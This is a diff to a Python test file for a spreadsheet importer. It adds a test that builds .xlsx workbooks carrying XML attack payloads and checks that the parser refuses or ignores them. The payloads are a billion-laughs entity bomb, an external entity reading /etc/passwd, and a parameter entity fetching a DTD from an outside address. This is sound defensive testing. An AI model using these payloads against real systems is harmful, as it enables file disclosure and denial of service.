@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import gzip
+import socket
 import tracemalloc
 import zipfile
 from datetime import date
@@ -16,6 +17,7 @@ from tests.interop.tables_on_disk import codes, files_under, settings
 
 from carewheel.interop.files import FileRefused, Sample
 from carewheel.interop.tabular import mapped, opendental, openemr
+from carewheel.interop.tabular.workbooks import workbook_rows
 
 HEADER = "expense_id,expense_date,category,amount\n"
 GOOD = "1,2025-03-01,rent,1200.50\n2,2025-03-02,pay,900.00\n"
@@ -224,7 +226,7 @@ def test_a_workbook_reads_like_a_csv(tmp_path: Path) -> None:
     assert [(f.code, f.line) for f in sink.findings] == [("csv.ambiguous-date", 6)]
 
 
-def test_a_workbook_that_is_cut_or_a_bomb_is_refused(tmp_path: Path) -> None:
+def test_case_22_a_workbook_that_is_cut_or_a_bomb_is_refused(tmp_path: Path) -> None:
     good = tmp_path / "good.xlsx"
     book(good, [["expense_id", "expense_date", "category", "amount"], [1, "2025-03-01", "rent", 5]])
     bomb = tmp_path / "bomb.xlsx"
@@ -238,6 +240,60 @@ def test_a_workbook_that_is_cut_or_a_bomb_is_refused(tmp_path: Path) -> None:
             mapped.recognise(file.sample(), settings())
     (file,) = files_under(good)
     assert Sample(file, good.read_bytes()[:65536]).is_xlsx
+
+
+LAUGHS = "".join(f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
+SHARED = '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
+OUTSIDE = (
+    f'<!DOCTYPE x [<!ENTITY a "ha">{LAUGHS}]>',
+    '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>',
+    '<!DOCTYPE x [<!ENTITY i "category">]>',
+    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p; <!ENTITY i "x">]>',
+)
+
+
+@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml"])  # fmt: skip
+@pytest.mark.parametrize("types", OUTSIDE, ids=["laughs", "file", "harmless", "address"])
+def test_case_21_a_workbooks_xml_names_nothing_outside_and_nothing_without_end(
+    tmp_path: Path, part: str, types: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def never(*words: object) -> None:
+        pytest.fail("nothing is fetched")
+
+    monkeypatch.setattr(socket.socket, "connect", never)
+    good, evil = tmp_path / "good.xlsx", tmp_path / "evil.xlsx"
+    book(good, [["expense_id", "expense_date", "category", "amount"], ["1", "2025-03-01", "rent", 5]])
+    with zipfile.ZipFile(good) as source:
+        parts = {name: source.read(name).decode() for name in source.namelist()}
+    # As Excel writes it: texts stand apart.
+    sheet = "xl/worksheets/sheet1.xml"
+    parts[sheet] = parts[sheet].replace('t="inlineStr"><is><t>category</t></is>', 't="s"><v>0</v>')
+    parts["xl/sharedStrings.xml"] = (
+        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&i;</t></si></sst>'
+    )
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace("</Types>", SHARED + "</Types>")
+    for name, end in (
+        ("xl/styles.xml", "</styleSheet>"),
+        ("xl/workbook.xml", "</workbook>"),
+        (sheet, "</t>"),
+    ):
+        assert end in parts[name]
+        parts[name] = parts[name].replace(end, "&i;" + end, 1)
+    for name in ("xl/styles.xml", "xl/workbook.xml", sheet, "xl/sharedStrings.xml"):
+        parts[name] = types + parts[name] if name == part else parts[name].replace("&i;", "category")
+    with zipfile.ZipFile(evil, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, text in parts.items():
+            target.writestr(name, text)
+    (file,) = files_under(evil)
+    try:
+        said = str(list(workbook_rows(file)))
+    except FileRefused as refusal:
+        assert refusal.finding.code == "xlsx.damaged"  # noqa: PT017
+        assert '"category"' not in types
+        return
+    # What is not understood is left out: nothing of another file, nothing that grew.
+    assert "root:" not in said
+    assert len(said) < 1_000
 
 
 def test_a_sheet_is_found_by_its_name_or_the_file_is_refused(tmp_path: Path) -> None:
